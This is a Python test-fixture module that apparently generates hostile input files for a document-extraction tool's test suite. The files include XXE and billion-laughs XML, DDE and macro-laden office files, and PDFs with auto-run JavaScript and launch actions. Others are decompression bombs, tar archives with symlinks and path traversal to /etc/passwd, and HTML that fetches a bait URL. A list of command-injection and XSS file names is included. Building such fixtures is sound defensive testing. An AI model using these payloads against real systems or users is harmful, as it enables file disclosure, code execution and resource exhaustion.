"""Files made to harm whoever opens them, each with what is to come of it."""

from __future__ import annotations

import io
import os
import re
import socket
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from sopextract.render import render
from sopextract.settings import RenderSettings
from tests.batch.bait import Bait
from tests.factories import record
from tests.ingest.pdf.raw import (
    HELVETICA,
    LINES,
    Sheet,
    make_file,
    make_pdf,
    picture,
    show,
    stream,
)

RAW = Path(__file__).parents[2] / "raw"
WORD, EXCEL, TEXT = (
    RAW / name
    for name in ("tarakan-peminjaman-buku.docx", "maluku-pengaduan.xlsx", "sikka-pengaduan.txt")
)
READ = "read"  # in place of a message: the SOP in it is read as if nothing were wrong
_HUGE = 60_000  # dots a side: 3.6 billion of them, 10 GB of colour
_SHEET = "xl/worksheets/sheet1.xml"
_DOCUMENT = "word/document.xml"
_LAUGHS = (
    b"<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + b"".join(b"<!ENTITY a%d '%s'>" % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 12))
    + b"]>"
)

Make = Callable[[Bait], bytes]
Put = Callable[[Path, Bait], None]


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file by name; `says` is a part of the one line about it, or READ.

    `make` gives its bytes; what is no plain file is put in its place by `put`.
    """

    name: str
    make: Make
    says: str
    put: Put | None = None


def doctored(path: Path, changes: Mapping[str, Callable[[bytes], bytes]]) -> bytes:
    """An office file with parts changed or, where it has none of that name, added."""
    out = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        names = source.namelist()
        for name in dict.fromkeys((*names, *changes)):
            body = source.read(name) if name in names else b""
            target.writestr(name, changes[name](body) if name in changes else body)
    return out.getvalue()


def _with_doctype(doctype: bytes, use: bytes, before: bytes) -> Callable[[bytes], bytes]:
    """An XML part with a document type, and a use of its entity before the first such tag."""

    def change(body: bytes) -> bytes:
        declaration = re.match(rb"\s*<\?xml[^>]*\?>", body)
        head = declaration[0] if declaration else b""
        rest = body[len(head) :].replace(before, use + before, 1)
        return head + doctype + rest

    return change


def _external(bait: Bait) -> bytes:
    return b"<!DOCTYPE x [<!ENTITY e SYSTEM '%s'><!ENTITY f SYSTEM '%s/x.dtd'>]>" % (
        bait.secret.as_uri().encode(),
        bait.url.encode(),
    )


def _relations(bait: Bait) -> bytes:
    kinds = ("attachedTemplate", "image", "oleObject", "hyperlink", "frame", "externalLink")
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return "".join(
        f'<Relationship Id="rIdX{i}{j}" Type="{base}/{kind}" Target="{target}/{kind}" '
        'TargetMode="External"/>'
        for i, kind in enumerate(kinds)
        for j, target in enumerate((bait.url, bait.secret.as_uri(), r"\\127.0.0.1\share"))
    ).encode()


def _linked(bait: Bait) -> Callable[[bytes], bytes]:
    def change(body: bytes) -> bytes:
        if not body:
            space = b"http://schemas.openxmlformats.org/package/2006/relationships"
            body = b'<Relationships xmlns="%s"></Relationships>' % space
        return body.replace(b"</Relationships>", _relations(bait) + b"</Relationships>")

    return change


def _word_with_links(bait: Bait) -> bytes:
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        f'INCLUDEPICTURE "{bait.url}/a.png" \\d</w:instrText></w:r><w:r>'
        '<w:fldChar w:fldCharType="end"/></w:r><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p>'
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
        'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'r:link="rIdX10"/></w:drawing></w:r></w:p>'
    ).encode()
    return doctored(WORD, {
        "word/_rels/document.xml.rels": _linked(bait),
        "word/_rels/settings.xml.rels": _linked(bait),
        _DOCUMENT: lambda body: body.replace(b"<w:sectPr", field + b"<w:sectPr", 1),
    })  # fmt: skip


def _macros(path: Path, folder: str) -> Make:
    return lambda bait: doctored(path, {f"{folder}/vbaProject.bin": lambda _: b"Sub AutoOpen()"})


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _pdf_with_huge_picture(bait: Bait) -> bytes:
    image = picture().replace(b"/Width 4 /Height 4", b"/Width %d /Height %d" % (_HUGE, _HUGE))
    content = show(LINES) + b"q 500 0 0 700 40 40 cm /Im1 Do Q"
    return make_pdf([Sheet(content, (("Font", "F1", HELVETICA), ("XObject", "Im1", image)))])


def _flate_bomb(bait: Bait) -> bytes:
    """A page whose content is 100 MB of blanks, packed twice: some hundred bytes."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b" " * 1_000_000) for _ in range(100)) + packer.flush()
    content = stream(zlib.compress(once, 9), b"/Filter [/FlateDecode /FlateDecode]")
    return make_file([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        content,
    ])  # fmt: skip


def _page_loop(bait: Bait) -> bytes:
    return make_file([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 100000000 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 5 >>",
    ])  # fmt: skip


def _many_vectors(bait: Bait) -> bytes:
    lines = b"".join(
        b"%d %d m %d %d l S\n" % (40 + i % 500, 40 + i % 700, 60 + i % 490, 45 + i % 650)
        for i in range(100_000)
    )
    return make_pdf([Sheet(show(LINES) + lines, (("Font", "F1", HELVETICA),))])


def _pdf_with_actions(bait: Bait) -> bytes:
    """Scripts, launches and links to elsewhere, all to be done when the file is opened."""
    url, secret = bait.url.encode(), str(bait.secret).encode()
    return make_file([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 5 0 R >> "
        b"/Names << /EmbeddedFiles << /Names [(a) << /F (%s) /Type /Filespec >>] >> >> >>" % secret,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R /Resources "
        b"<< /Font << /F1 7 0 R >> /XObject << /X 8 0 R >> >> >>",
        b"<< /S /JavaScript /JS (app.launchURL\\('%s/js'\\)) /Next << /S /Launch /F (calc) >> >>"
        % url,
        b"<< /S /SubmitForm /F << /FS /URL /F (%s/submit) >> >>" % url,
        stream(show(LINES) + b"/X Do"),
        HELVETICA,
        b"<< /Length 0 /Type /XObject /Subtype /Image /Width 4 /Height 4 /BitsPerComponent 8 "
        b"/ColorSpace /DeviceGray /F << /FS /URL /F (%s/image) >> >>\nstream\n\nendstream" % url,
    ])  # fmt: skip


def _html(bait: Bait) -> bytes:
    """A good sheet that would load, frame and refresh."""
    page = render(record(), "html", RenderSettings()).decode()
    url, secret = bait.url, bait.secret.as_uri()
    page = page.replace(
        "</head>",
        f'<base href="{url}/"><meta http-equiv="refresh" content="0;url={url}/r">'
        f'<link rel=stylesheet href="{url}/c"><script src="{url}/s"></script></head>',
    )
    body = (
        f'<img src="{url}/i" onerror="fetch(\'{url}/o\')"><iframe src="{secret}"></iframe>'
        f'<object data="{secret}"></object>&e;</body>'
    )
    page = page.replace("</body>", body)
    doctype = f'<!DOCTYPE html [<!ENTITY e SYSTEM "{secret}">]>'
    return re.sub(r"<!doctype html>", lambda _: doctype, page, flags=re.I).encode()


def _zip_bomb(bait: Bait) -> bytes:
    """200 MB of nothing in some hundred kilobytes."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("a.txt", "w") as file,
    ):
        for _ in range(200):
            file.write(b"\0" * 1_000_000)
    return out.getvalue()


def _links_in_tar(bait: Bait) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, kind, target in (
            ("a.txt", tarfile.SYMTYPE, str(bait.secret)),
            ("b.txt", tarfile.LNKTYPE, "/etc/passwd"),
            ("../../c.txt", tarfile.SYMTYPE, "../../../etc/passwd"),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
    return out.getvalue()


def _office_bomb(path: Path, part: str) -> Make:
    return lambda bait: doctored(path, {part: lambda body: body + b" " * 70_000_000})


def _picture_in_word(bait: Bait) -> bytes:
    return doctored(WORD, {"word/media/image1.png": lambda _: _png(_HUGE, _HUGE)})


def _no_bytes(bait: Bait) -> bytes:
    return b""


def _fifo(path: Path, bait: Bait) -> None:
    os.mkfifo(path)


def _link_to(target: str) -> Put:
    return lambda path, bait: path.symlink_to(target)


def _link_to_secret(path: Path, bait: Bait) -> None:
    path.symlink_to(bait.secret)


def _loop(path: Path, bait: Bait) -> None:
    path.mkdir()
    (path / "lagi").symlink_to(path, target_is_directory=True)
    (path / "isi.txt").write_bytes(TEXT.read_bytes())


def _folder(path: Path, bait: Bait) -> None:
    path.mkdir()
    (path / "isi.txt").write_bytes(TEXT.read_bytes())


def _socket(path: Path, bait: Bait) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        here = Path.cwd()
        os.chdir(path.parent)  # a socket's path may have 108 bytes only
        try:
            made.bind(path.name)
        finally:
            os.chdir(here)


def _word_with(doctype: Callable[[Bait], bytes], use: bytes) -> Make:
    return lambda bait: doctored(
        WORD, {_DOCUMENT: _with_doctype(doctype(bait), b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % use,
                                        b"<w:sectPr")}
    )  # fmt: skip


def _excel_with(doctype: Callable[[Bait], bytes], use: bytes) -> Make:
    cell = b'<row r="99"><c r="A99" t="inlineStr"><is><t>%s</t></is></c></row>' % use
    return lambda bait: doctored(
        EXCEL, {_SHEET: _with_doctype(doctype(bait), cell, b"</sheetData>")}
    )


FILES = (
    Hostile("entitas-tawa.docx", _word_with(lambda _: _LAUGHS, b"&a11;"), "cannot be read"),
    Hostile("entitas-luar.docx", _word_with(_external, b"&e;&f;"), "cannot be read"),
    Hostile("entitas-tawa.xlsx", _excel_with(lambda _: _LAUGHS, b"&a11;"), "is broken"),
    Hostile("entitas-luar.xlsx", _excel_with(_external, b"&e;&f;"), "is broken"),
    Hostile("tautan.docx", _word_with_links, READ),
    Hostile("tautan.xlsx", lambda bait: doctored(EXCEL, {
        "xl/_rels/workbook.xml.rels": _linked(bait),
        "xl/externalLinks/externalLink1.xml": lambda _: b"<externalLink/>",
    }), READ),
    Hostile("makro.docm", _macros(WORD, "word"), READ),
    Hostile("makro.xlsm", _macros(EXCEL, "xl"), READ),
    Hostile("bom.docx", _office_bomb(WORD, _DOCUMENT), "unpacks to too much"),
    Hostile("bom.xlsx", _office_bomb(EXCEL, _SHEET), "unpacks to too much"),
    Hostile("bom-sisipan.docx", _office_bomb(WORD, "word/styles.xml"), "unpacks to too much"),
    Hostile("gambar-besar.docx", _picture_in_word, READ),
    Hostile("gambar-besar.png", lambda _: _png(_HUGE, _HUGE), "too many pixels"),
    Hostile("gambar-besar.pdf", _pdf_with_huge_picture, ""),
    Hostile("bom-flate.pdf", _flate_bomb, ""),
    Hostile("lingkaran.pdf", _page_loop, ""),
    Hostile("seratus-ribu-garis.pdf", _many_vectors, "no SOP"),
    Hostile("tindakan.pdf", _pdf_with_actions, "no SOP"),
    Hostile("bom.zip", _zip_bomb, "times its size"),
    Hostile("tautan.tar", _links_in_tar, "is a link or device"),
    Hostile("jaringan.html", _html, READ),
    Hostile("pipa.txt", _no_bytes, "named pipe", _fifo),
    Hostile("nol.txt", _no_bytes, "device", _link_to("/dev/zero")),
    Hostile("rahasia.txt", _no_bytes, "no SOP", _link_to_secret),
    Hostile("sandi.txt", _no_bytes, "no SOP", _link_to("/etc/passwd")),
    Hostile("putus.txt", _no_bytes, "cannot be read", _link_to("tidak-ada")),
    Hostile("diri.txt", _no_bytes, "cannot be read", _link_to("diri.txt")),
    Hostile("soket.txt", _no_bytes, "socket", _socket),
    Hostile("lingkaran", _no_bytes, READ, _loop),
    Hostile("folder.pdf", _no_bytes, READ, _folder),
)  # fmt: skip

NAMES = (
    "baris\nbaru.txt", "kutip'\".txt", "titik..txt", "-o.txt", "--force.txt", "n" * 236 + ".txt",
    "😀🔥.txt", "<img src=x onerror=alert(1)>.txt", "=1+1.txt", "{{7*7}}PROBE.txt", "$(id).txt",
    "`id`.txt", "a;b|c&d.txt", "%2e%2e%2f.txt", "\u202efdp.txt", "tab\t.txt", "\x1b[31m.txt",
    "con.txt", "titik....txt", " spasi .txt", "kafe\u0301.txt", "a\\..\\b.txt", "*.txt", "~.txt",
)  # fmt: skip


def lay(file: Hostile, folder: Path, bait: Bait) -> None:
    """Put a file into a folder."""
    path = folder / file.name
    if file.put is not None:
        file.put(path, bait)
    else:
        path.write_bytes(file.make(bait))
